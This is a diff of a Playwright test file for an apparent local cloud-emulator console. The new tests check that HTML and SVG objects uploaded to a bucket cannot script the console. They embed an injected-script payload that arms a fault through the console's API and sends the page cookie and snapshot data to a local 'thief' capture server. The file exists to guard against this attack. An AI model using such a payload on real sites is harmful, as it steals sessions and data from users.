@@ -1,5 +1,9 @@
-// Events and log lines that would like to be more than text.
+// Events, log lines and objects of a bucket that would like to be more than text.
+import { once } from 'node:events';
+import http from 'node:http';
+import { type AddressInfo } from 'node:net';
 import { type Page } from 'playwright-core';
+import { putPage } from '../testbed/put-page';
 import { visit } from './browser';
 import { bars, detail, sendEvent, expectState, expectShown } from './page';
 import { useSession } from './session';
@@ -98,4 +102,65 @@ it('has a name of a request that is none, and says so', async () => {
   );
   await expectShown(detail(page).getByText('Nothing is kept of'));
   expect(await hacked(page)).toBeUndefined();
+});
+
+describe('an object of a bucket', () => {
+  /** Gets what the scripts have found out. */
+  let thief: http.Server;
+  const loot: string[] = [];
+  beforeAll(async () => {
+    thief = http.createServer((request, response) => {
+      loot.push(request.url ?? '');
+      response.end();
+    });
+    await once(thief.listen(0, '127.0.0.1'), 'listening');
+  });
+  beforeEach(() => {
+    loot.length = 0;
+  });
+  afterAll(() => {
+    thief.close();
+  });
+
+  /** Arms a fault, and sends the thief the cookie and what the console knows. */
+  const script = () => `
+    window.ran = true;
+    const arms = fetch('/_local/api/faults/arm', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: '{"point":"task","kind":"spot"}',
+    });
+    const reads = fetch('/_local/api/snapshot').then((answer) => answer.text());
+    window.done = Promise.all([arms, reads]).then(([, text]) =>
+      fetch('http://127.0.0.1:${(thief.address() as AddressInfo).port}/?' + encodeURIComponent(
+        document.cookie + text.slice(0, 100),
+      ), { mode: 'no-cors' }),
+    ).catch(() => undefined);`;
+  const html = () => `<!doctype html><title>report</title><script>${script()}</script><p>shown</p>`;
+  const svg = () =>
+    `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script()}]]></script></svg>`;
+
+  it.each([
+    ['a page', 'text/html', html],
+    ['a drawing', 'image/svg+xml', svg],
+    ['text that looks like a page', 'text/plain', html],
+    ['bytes that look like a page', 'application/x-unknown', html],
+  ])('can’t use the console that is open beside it: %s', async (_, type, content) => {
+    const { page: console } = await visit(session.browser, session.bed.url);
+    await expectShown(console.getByRole('status').getByText('live'));
+    const bucket = 'immortal-dev-data-000000000000-eu-west-1';
+    const object = { bucket, key: 'report', type, content: content() };
+    const url = await putPage(session.bed.cloud, object);
+
+    const opened = await console.context().newPage();
+    await opened.goto(url).catch((error: unknown) => {
+      // What a browser does not show, it saves.
+      expect(String(error)).toContain('Download is starting');
+    });
+
+    expect(await opened.evaluate('window.ran')).toBeUndefined();
+    await opened.evaluate('window.done');
+    expect(loot).toEqual([]);
+    expect(session.bed.cloud.faults.list()).toEqual([]);
+  });
 });
